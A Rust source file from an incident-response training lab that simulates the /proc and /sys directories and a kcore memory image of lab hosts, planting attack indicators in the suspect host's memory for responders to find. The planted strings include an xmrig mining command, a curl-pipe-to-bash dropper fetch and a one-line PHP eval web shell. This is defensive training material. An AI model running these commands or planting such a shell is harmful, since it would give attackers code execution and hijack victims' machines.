//! The lab's hosts as the SSM agent sees them: each lab instance gets its own `/proc`
//! (an ELF core in the layout of /proc/kcore, iomem, meminfo, the kernel release) and
//! `/sys` (kernel lockdown), built on first use, deterministic from the instance id, with
//! the planted indicators in the suspect's memory.

use std::io::Write;
use std::path::{Path, PathBuf};

use rand::{Rng, SeedableRng};

use irf_forensics::memcap::{RamRange, write_core};

use crate::common::LabError;

/// Memory of a lab host: small, so that a capture in the lab takes seconds.
pub const LAB_RAM_BYTES: u64 = 64 << 20;

/// Strings a responder should find in the suspect's memory image.
pub const PLANTED_MEMORY: &[&str] = &[
    "xmrig --url stratum+tcp://203.0.113.66:3333 --user 4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQni58KYZqH --donate-level 0",
    "curl -s http://203.0.113.66/.x/dropper.sh | bash",
    "<?php @eval($_POST['c']); ?>",
];

/// The directories the lab mounts over a script's /proc and /sys.
#[derive(Debug, Clone)]
pub struct HostDirs {
    pub proc: PathBuf,
    pub sys: PathBuf,
}

fn io(what: &'static str, path: &Path) -> impl Fn(std::io::Error) -> LabError {
    let path = path.to_owned();
    move |source| LabError::Io {
        what,
        path: path.clone(),
        source,
    }
}

/// How a lab host's physical memory is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RamLayout {
    /// Low memory below the legacy hole, then the rest in one range.
    Contiguous,
    /// Low memory, then [`FRAGMENTS`] small ranges with holes between them (as firmware
    /// that reserves pages throughout leaves it), then the rest: a host whose capture
    /// report would not fit Run Command's output if it listed its ranges.
    Fragmented,
}

/// Small RAM ranges of a fragmented host.
pub const FRAGMENTS: u64 = 1200;

/// The RAM ranges of a lab host.
pub fn ram_layout(layout: RamLayout) -> Vec<RamRange> {
    let mut ranges = vec![RamRange {
        start: 0x1000,
        end: 0x9_fbff,
    }];
    let mut next = 0x10_0000;
    if layout == RamLayout::Fragmented {
        for _ in 0..FRAGMENTS {
            ranges.push(RamRange {
                start: next,
                end: next + 0x3fff,
            });
            next += 0x5000;
        }
    }
    ranges.push(RamRange {
        start: next,
        end: LAB_RAM_BYTES - 1,
    });
    ranges
}

/// A lab host's own files: its home directory (where commands and session shells start)
/// and the directory its evidence is fetched into (`IRF_EVIDENCE_DIR`, made by the fetch).
#[derive(Debug, Clone)]
pub struct HostHome {
    pub home: PathBuf,
    pub evidence: PathBuf,
}

/// Creates (once) and returns the home of `instance_id` under `root`.
pub fn host_home(root: &Path, instance_id: &str) -> Result<HostHome, LabError> {
    let base = root.join(instance_id);
    let home = HostHome {
        home: base.join("home"),
        evidence: base.join("evidence"),
    };
    // The evidence directory is left to the fetch, which creates it as on a real host.
    std::fs::create_dir_all(&home.home).map_err(io("create a lab host directory", &home.home))?;
    Ok(home)
}

/// Builds (once) and returns the host directories of `instance_id` under `root`.
pub fn host_dirs(
    root: &Path,
    instance_id: &str,
    compromised: bool,
    layout: RamLayout,
    kernel: &str,
) -> Result<HostDirs, LabError> {
    let base = root.join(instance_id);
    let dirs = HostDirs {
        proc: base.join("proc"),
        sys: base.join("sys"),
    };
    let done = base.join(".complete");
    if done.exists() {
        return Ok(dirs);
    }
    let osrelease = dirs.proc.join("sys/kernel");
    let security = dirs.sys.join("kernel/security");
    for dir in [&osrelease, &security] {
        std::fs::create_dir_all(dir).map_err(io("create a lab host directory", dir))?;
    }
    let write = |path: PathBuf, text: String| {
        std::fs::write(&path, text).map_err(io("write a lab host file", &path))
    };
    write(osrelease.join("osrelease"), format!("{kernel}\n"))?;
    write(
        security.join("lockdown"),
        "[none] integrity confidentiality\n".to_owned(),
    )?;
    let ranges = ram_layout(layout);
    let mut iomem = String::from("00000000-00000fff : Reserved\n");
    for range in &ranges {
        iomem.push_str(&format!(
            "{:08x}-{:08x} : System RAM\n",
            range.start, range.end
        ));
        if range.start <= 0x100_0000 && 0x1ff_ffff <= range.end {
            iomem.push_str("  01000000-01ffffff : Kernel code\n");
        }
    }
    iomem.push_str("fee00000-fee00fff : Local APIC\n");
    write(dirs.proc.join("iomem"), iomem)?;
    let total_kib: u64 = ranges.iter().map(|r| r.len()).sum::<u64>() / 1024;
    write(
        dirs.proc.join("meminfo"),
        format!(
            "MemTotal:       {total_kib} kB\nMemFree:        {} kB\n",
            total_kib / 3
        ),
    )?;

    let mut seed = [0u8; 32];
    for (i, b) in instance_id.bytes().enumerate() {
        seed[i % 32] ^= b;
    }
    let mut rng = rand::rngs::SmallRng::from_seed(seed);
    let contents: Vec<(RamRange, Vec<u8>)> = ranges
        .iter()
        .map(|range| {
            let mut data = vec![0u8; usize::try_from(range.len()).unwrap_or(0)];
            // A few pages of noise per MiB, as used memory looks.
            for chunk in data.chunks_mut(1 << 20) {
                for _ in 0..4 {
                    let page = rng.random_range(0..chunk.len() / 4096) * 4096;
                    rng.fill(&mut chunk[page..page + 4096]);
                }
            }
            (*range, data)
        })
        .collect();
    let mut contents = contents;
    if compromised && let Some((_, high)) = contents.last_mut() {
        for (i, text) in PLANTED_MEMORY.iter().enumerate() {
            let at = (3 + i * 7) << 20;
            high[at..at + text.len()].copy_from_slice(text.as_bytes());
        }
    }
    let kcore = dirs.proc.join("kcore");
    let mut file = std::io::BufWriter::new(
        std::fs::File::create(&kcore).map_err(io("create a lab kcore", &kcore))?,
    );
    write_core(&mut file, &contents).map_err(io("write a lab kcore", &kcore))?;
    file.flush().map_err(io("write a lab kcore", &kcore))?;
    std::fs::write(&done, b"").map_err(io("write a lab host file", &done))?;
    Ok(dirs)
}

#[cfg(test)]
mod tests {
    use super::*;
    use irf_forensics::memcap::{core_segments, map_ranges, ram_ranges};

    #[test]
    fn a_lab_host_has_a_readable_core_covering_its_ram() {
        let root = tempfile::tempdir().expect("tempdir");
        let dirs = host_dirs(
            root.path(),
            "i-0abc",
            true,
            RamLayout::Contiguous,
            "6.1.0-lab",
        )
        .expect("built");
        let iomem = std::fs::read_to_string(dirs.proc.join("iomem")).expect("iomem");
        let ranges = ram_ranges(&iomem);
        assert_eq!(ranges, ram_layout(RamLayout::Contiguous));
        let kcore = dirs.proc.join("kcore");
        let segments = core_segments(&mut std::fs::File::open(&kcore).expect("open"), &kcore)
            .expect("segments");
        let (_, missing) = map_ranges(&ranges, &segments);
        assert!(missing.is_empty());
        let bytes = std::fs::read(&kcore).expect("read");
        let needle = PLANTED_MEMORY[0].as_bytes();
        assert!(
            bytes.windows(needle.len()).any(|w| w == needle),
            "planted string in memory"
        );
        // Built once: a second call reuses it.
        let again = host_dirs(
            root.path(),
            "i-0abc",
            true,
            RamLayout::Contiguous,
            "6.1.0-lab",
        )
        .expect("again");
        assert_eq!(again.proc, dirs.proc);
    }
}
